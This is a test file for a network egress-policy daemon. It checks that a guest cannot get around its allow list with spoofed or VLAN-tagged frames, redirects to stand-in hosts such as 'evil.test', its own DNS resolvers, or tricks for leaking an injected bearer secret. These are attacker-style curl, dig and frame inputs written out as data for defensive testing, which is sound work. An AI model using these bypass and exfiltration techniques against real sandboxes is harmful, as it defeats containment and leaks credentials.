/** More ways around a policy: frames and resolvers of the guest's own, redirects, and secrets where they do not belong. */
import { expect } from "bun:test";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { hexOf, sha256 } from "#base/digest.ts";
import { newId } from "#base/id.ts";
import { makeAuthority } from "#egress/intercept/certificates.ts";
import { attach } from "#test/net-calls.ts";
import type { Frame } from "#test/net-frame.ts";
import { type NetLab, OUTSIDE } from "#test/net-lab.ts";
import { networkTest } from "#test/net-twice.ts";
import { until } from "#test/until.ts";

const GATEWAY = "10.241.0.1";
const RESOLVER_PORT = 5300;
const DNS = { resolvers: [{ address: OUTSIDE, port: RESOLVER_PORT }] };
const [API, EVIL] = ["198.51.100.3", "198.51.100.4"];
const FRAME = new URL("../support/net-frame.ts", import.meta.url).pathname;
const [OPEN_PORT, CLOSED_PORT] = [9998, 9999];
/** What programs print when a connection is refused, reset or ended by an alert, or a request by a 4xx. */
const REFUSED = "refused";

/** Counts the datagrams that arrive in a namespace at either port. */
async function watch(lab: NetLab, name: string) {
  const chain = "type filter hook input priority 0; policy accept;";
  const rules = [OPEN_PORT, CLOSED_PORT].map((port) => `udp dport ${port} counter name p${port};`);
  const counters = [OPEN_PORT, CLOSED_PORT].map((port) => `counter p${port} { }`);
  const table = `table inet watch { ${counters.join("\n")}\nchain in { ${chain} ${rules.join(" ")} }\n}`;
  await lab.run(name, ["nft", table]);
  return async (port: number): Promise<number> => {
    const text = await lab.run(name, ["nft", "list", "counter", "inet", "watch", `p${port}`]);
    return Number(/packets (\d+)/.exec(text)?.[1]);
  };
}

async function resolve(lab: NetLab, name: string): Promise<string> {
  return (
    await lab.run("a", ["dig", "+tries=4", "+time=15", `@${GATEWAY}`, "+short", name])
  ).trim();
}

/** A page by curl, with the addresses of names in place of DNS. */
async function curl(lab: NetLab, at: Record<string, string>, ...args: string[]): Promise<string> {
  const known = Object.entries(at).flatMap(([name, address]) =>
    [80, 443, 853].flatMap((port) => ["--resolve", `${name}:${port}:${address}`]),
  );
  const argv = ["curl", "-sf", "-m", "60", ...known, ...args];
  const script = ["sh", "-c", `"$@" || echo ${REFUSED}`, "sh", ...argv];
  return (await lab.run("a", script)).trim();
}

networkTest(
  "frames that a guest makes itself, with tags or under other names, get nowhere",
  async (makeLab) => {
    await using lab = await makeLab();
    const daemon = lab.daemon();
    const networks = ["blue"];
    const allow = [`${OUTSIDE}:${OPEN_PORT}`];
    const a = await attach(daemon, newId(), { allow, networks });
    const b = await attach(daemon, newId(), { networks });
    await lab.plug("a", a);
    await lab.plug("b", b);
    const outside = await watch(lab, "outside");
    const peer = await watch(lab, "b");
    const ingress = "type filter hook ingress device eth0 priority 0; policy accept;";
    const table = `table netdev tags { counter tagged { }\nchain in { ${ingress} ether type vlan counter name tagged; }\n}`;
    await lab.run("b", ["nft", table]);
    const tagged = async () => {
      const text = await lab.run("b", ["nft", "list", "counter", "netdev", "tags", "tagged"]);
      return Number(/packets (\d+)/.exec(text)?.[1]);
    };
    const hardware = await lab.run("host", ["cat", "/sys/class/net/banger0/address"]);
    const [own = "", other = ""] = [a, b].map(({ address }) => address.split("/")[0] ?? "");
    const out = { to: hardware.trim(), source: own, target: OUTSIDE, port: OPEN_PORT };
    const across = { to: b.mac, source: own, target: other, port: OPEN_PORT };
    const send = (...frames: Frame[]) =>
      lab.run("a", [process.execPath, FRAME, ...frames.map((each) => JSON.stringify(each))]);

    const wrong: Frame[] = [
      { ...out, port: CLOSED_PORT },
      { ...out, target: EVIL },
      { ...out, source: other },
      { ...out, source: "10.241.0.77" },
      { ...out, from: b.mac, source: other },
      { ...out, vlans: [5] },
      { ...out, vlans: [5, 6] },
      { ...across, vlans: [5] },
      { ...across, vlans: [5, 6] },
      { ...across, source: "10.241.0.77" },
    ];
    await send(...wrong, out, across);
    await until(async () => (await outside(OPEN_PORT)) > 0 && (await peer(OPEN_PORT)) > 0);
    expect(await outside(OPEN_PORT)).toBe(1);
    expect(await outside(CLOSED_PORT)).toBe(0);
    expect(await peer(OPEN_PORT)).toBe(1);
    expect(await tagged()).toBe(0);

    // They do where nothing stops them.
    await lab.run("host", ["nft", "flush", "chain", "bridge", "banger", "prerouting"]);
    // With br_netfilter they come by here too.
    await lab.run("host", ["nft", "flush", "chain", "inet", "banger", "forward"]);
    await send({ ...across, vlans: [5] }, { ...across, source: "10.241.0.77" });
    await until(async () => (await tagged()) > 0 && (await peer(OPEN_PORT)) > 1);
  },
);

networkTest(
  "neither another server of the same network, nor a redirect, nor another resolver is a way around",
  async (makeLab) => {
    await using lab = await makeLab();
    for (const address of [API, EVIL]) await lab.ip("outside", `addr add ${address}/24 dev eth0`);
    await lab.serveHttp("outside", 80);
    for (const port of [443, 853]) await lab.serveHttps("outside", port);
    const asked = await lab.resolver(RESOLVER_PORT);
    const daemon = lab.daemon({ dns: DNS });
    await lab.plug("a", await attach(daemon, newId(), { allow: ["shop.test", "api.shop.test"] }));
    expect(await resolve(lab, "shop.test")).toContain(OUTSIDE);
    expect(await resolve(lab, "api.shop.test")).toBe(API);

    // Both names are allowed, each at its own addresses.
    const url = "https://shop.test/";
    expect(await curl(lab, { "shop.test": OUTSIDE }, "-k", url)).toBe("hello");
    expect(await curl(lab, { "shop.test": API }, "-k", url)).toBe(REFUSED);
    expect(await curl(lab, { "shop.test": EVIL }, "-k", url)).toBe(REFUSED);
    expect(await curl(lab, { "api.shop.test": OUTSIDE }, "http://api.shop.test/")).toBe(REFUSED);

    const at = { "shop.test": OUTSIDE, "api.shop.test": API, "evil.test": EVIL };
    const redirected = (to: string) => curl(lab, at, "-L", `http://shop.test/elsewhere?to=${to}`);
    expect(await redirected("http://api.shop.test/")).toBe("hello");
    for (const to of ["http://evil.test/", `http://${EVIL}/`, `http://${GATEWAY}/`]) {
      expect(await redirected(to)).toBe(REFUSED);
    }

    // A resolver of its own: in the clear, over TCP, over TLS.
    const before = asked.length;
    const to = [`@${OUTSIDE}`, "-p", String(RESOLVER_PORT), "+tries=1", "+time=1", "evil.test"];
    for (const how of ["+notcp", "+tcp"]) {
      const found = await lab.run("a", ["sh", "-c", `dig ${how} ${to.join(" ")} || true`]);
      expect(found).not.toContain("status:");
    }
    expect(asked.length).toBe(before);
    expect(await curl(lab, at, "-k", "https://shop.test:853/")).toBe(REFUSED);
    // Where its owner has opened everything, the ports of DNS stay closed.
    const id = newId();
    await lab.plug("open", await attach(daemon, id, { allow: ["0.0.0.0/0"] }));
    const get = (port: number) =>
      lab.run("open", [
        "sh",
        "-c",
        `curl -skf -m 60 https://${OUTSIDE}:${port}/ || echo ${REFUSED}`,
      ]);
    expect((await get(443)).trim()).toBe("hello");
    expect((await get(853)).trim()).toBe(REFUSED);
  },
  { needs: ["dig", "curl", "openssl"] },
);

networkTest(
  "a secret gets to its host, through the gate only, and comes back to no machine",
  async (makeLab) => {
    await using lab = await makeLab();
    const [host, placeholder, value] = ["shop.test", "banger_0123456789abcdef", "s3cr3t-value/x="];
    const real = await makeAuthority(Buffer.alloc(32, 9), "the real world");
    const roots = join(lab.userFolder(), "roots.pem");
    writeFileSync(roots, real.certificate);
    for (const address of [API, EVIL]) await lab.ip("outside", `addr add ${address}/24 dev eth0`);
    await lab.serveHttp("outside", 80);
    await lab.serveHttps("outside", 443, await real.leaf(host));
    await lab.resolver(RESOLVER_PORT);
    const secret = { hosts: [host], placeholder, value, roots };
    const daemon = lab.daemon({ dns: DNS, secret });
    const allow = [host, "api.shop.test"];
    await lab.plug("a", await attach(daemon, newId(), { allow, secretHosts: [host] }));
    const ca = join(lab.userFolder(), "ca.pem");
    writeFileSync(ca, await daemon.call<string>({ op: "certificate" }));
    expect(readFileSync(ca, "utf8")).toStartWith("-----BEGIN CERTIFICATE");
    const bearer = `Authorization: Bearer ${placeholder}`;
    const at = { [host]: OUTSIDE, "api.shop.test": API, "evil.test": EVIL };
    const ask = (...args: string[]) => curl(lab, at, "--cacert", ca, ...args);
    const digest = (text: string) => hexOf(sha256(text));

    // Not before DNS has answered the machine.
    expect(await ask("-H", bearer, `https://${host}/digest`)).toBe(REFUSED);
    for (const name of [host, "api.shop.test"]) await resolve(lab, name);
    expect(await ask("-H", bearer, `https://${host}/digest`)).toBe(digest(`Bearer ${value}`));
    const echoed = await ask("-H", bearer, `https://${host}/echo`);
    expect(echoed).toContain(`Bearer ${"*".repeat(value.length)}`);
    expect(echoed).not.toContain(value);
    const [, , encoded = ""] = echoed.split("\n");
    expect(atob(encoded.replaceAll("*", "A"))).not.toContain(value);

    for (const wrong of [
      [`https://${host}/echo?token=${placeholder}`],
      ["-H", `X-Other: ${placeholder}`, `https://${host}/echo`],
      ["-d", `token=${placeholder}`, `https://${host}/echo`],
      ["-H", bearer, "-H", "Host: api.shop.test", `https://${host}/digest`],
      ["-H", bearer, "-H", "Host: evil.test", `https://${host}/digest`],
      ["-H", bearer, `http://${host}/digest`],
      ["-H", bearer, "--location-trusted", `https://${host}/elsewhere?to=http://evil.test/digest`],
    ]) {
      expect([await ask(...wrong), wrong]).toEqual([REFUSED, wrong]);
    }
    // To another host goes what the machine has, and that is not the value.
    const elsewhere = await ask("-H", bearer, "http://api.shop.test/digest");
    expect(elsewhere).toBe(digest(`Bearer ${placeholder}`));
  },
  { needs: ["dig", "curl"], isShort: true },
);
